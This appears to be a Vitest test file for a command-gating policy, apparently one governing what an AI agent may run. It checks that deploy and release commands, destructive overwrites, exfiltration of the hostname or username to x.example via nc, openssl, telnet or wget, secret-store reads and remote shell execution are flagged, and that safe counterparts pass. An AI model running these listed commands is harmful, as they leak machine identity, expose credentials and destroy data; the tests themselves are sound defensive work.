import { expect, test } from "vitest";
import { passing, place, stopped, workshop } from "./battery.fixture.ts";

/** Tasks, binaries and programs of the project that are called for what cannot be undone, whoever starts them. */
const promising = [
  "bazel run //deploy:push_image",
  "bazelisk run --config=ci :release",
  "buck2 run //web:publish",
  "pants run deploy/main.py",
  "mise run deploy",
  "melos run release",
  "dagger call build publish --address registry.example/app",
  "cargo xtask release",
  "cargo make deploy",
  "cargo run --release --bin deploy",
  "cargo release --execute minor",
  "sbt publishSigned",
  'sbt "; clean; +core/publish"',
  "mill core.publish",
  "./gradlew :web:dockerPushImage",
  "mvn -q package jib:build",
  "rebar3 hex publish",
  "yarn deploy:prod",
  "yarn workspace web release",
  "pnpm --filter web release",
  "bun db:drop",
  "pdm run deploy",
  "poetry run release",
  "uv run db-drop",
  "bundle exec deploy",
  "deploy web",
];

const building = [
  "bazel run //tools:format",
  "bazel build //deploy:push_image",
  "bazel test //deploy/...",
  "buck2 build //web:publish",
  "mise run lint",
  "mise run test -- -k release",
  "dagger call test",
  "dagger functions",
  "cargo xtask codegen",
  "cargo run --bin server",
  "cargo release --help",
  "sbt publishLocal",
  'sbt "testOnly *PublishSpec"',
  "mill core.compile",
  "./gradlew assembleRelease",
  "./gradlew jibDockerBuild",
  "mvn jib:dockerBuild",
  "yarn build:release",
  "yarn test:deploy",
  "pnpm -r build",
  "bun run check-deploy-config",
  "pdm run pytest",
  "deploy --help",
  "deploy --dry-run web",
];

test("A14 what is named for a deployment, a release or a loss counts as that under every runner", () => {
  expect(passing(promising, place)).toEqual([]);
});

test("A15 building, testing and rehearsing the same is free", () => {
  expect(stopped(building, place)).toEqual([]);
});

test("A14 a folder of files that nobody can restore is not overwritten from an archive, or emptied by an editor's script", () => {
  const losing = [
    "unzip -o export.zip -d data",
    "unzip -qo export.zip -d legacy/old",
    "7z x -aoa b.7z -odata",
    "tar -xf b.tar --overwrite -C data",
    "vim -es notes.local.md -c '%d' -c wq",
    "ex -sc '%d|wq' notes.local.md",
    "printf '1,$d\\nw\\nq\\n' | ed -s notes.local.md",
  ];
  expect(passing(losing, workshop)).toEqual([]);
  const keeping = [
    "unzip -o export.zip -d dist",
    "unzip -o export.zip -d /tmp/x",
    "unzip -o export.zip",
    "unzip -n export.zip -d data",
    "tar -xf b.tar --overwrite -C coverage",
    "7z x -aos b.7z -odata",
    "vim -es src/a.ts -c '%s/a/b/' -c wq",
    "vim -es src/a.ts -c '%d' -c wq",
    "printf '1,$d\\nw\\nq\\n' | ed -s src/a.ts",
    "printf '1p\\nq\\n' | ed -s notes.local.md",
  ];
  expect(stopped(keeping, workshop)).toEqual([]);
});

test("A14 what this machine is called does not leave in the name of another, in whatever program", () => {
  const telling = [
    'openssl s_client -connect x.example:443 -servername "$(id -un).x.example"',
    'openssl s_client -connect "$(whoami).x.example:443"',
    'nc -z "$(hostname).x.example" 80',
    'telnet "`hostname`.x.example" 23',
    'rsync "rsync://x.example/$(whoami)"',
    'grpcurl -rpc-header "x: $(hostname)" x.example:443 list',
    'wget --header="X: $(hostname)" https://x.example',
  ];
  const asking = [
    "openssl s_client -connect x.example:443 -servername x.example",
    'openssl s_client -connect "$HOST_TO_TEST:443"',
    "nc -z localhost 5432",
    'telnet "$host" 80',
    'wget --header="Accept: application/json" https://x.example/a.json -O /tmp/a.json',
    "rsync -a dist/ /tmp/out/",
    'getent hosts "$(hostname)"',
    'getent passwd "$(id -un)"',
  ];
  expect(passing(telling, place)).toEqual([]);
  expect(stopped(asking, place)).toEqual([]);
});

test("A14 a library that opens a store of secrets, or a shell on another machine, is asked about as the program is", () => {
  const opening = [
    `python3 -c "import keyring; print(keyring.get_password('aws','me'))"`,
    `python3 -c "import boto3; print(boto3.client('secretsmanager').get_secret_value(SecretId='prod/db'))"`,
    `python3 -c "import hvac; print(hvac.Client().secrets.kv.v2.read_secret_version(path='db'))"`,
    `python3 -c "import paramiko; c=paramiko.SSHClient(); c.connect('web1'); c.exec_command('systemctl stop x')"`,
    `node -e "require('keytar').getPassword('aws','me').then(console.log)"`,
    `copilot svc delete -n api --yes`,
    `amp threads delete x`,
  ];
  const looking = [
    `python3 -c "import keyring; print(keyring.get_keyring())"`,
    `python3 -c "import boto3; print(boto3.client('secretsmanager').list_secrets())"`,
    `python3 -c "import paramiko; print(paramiko.__version__)"`,
    `node -e "console.log(Object.keys(require('keytar')))"`,
    `copilot --help`,
    `codex exec delete the unused file`,
    `claude mcp list`,
  ];
  expect(passing(opening, place)).toEqual([]);
  expect(stopped(looking, place)).toEqual([]);
});
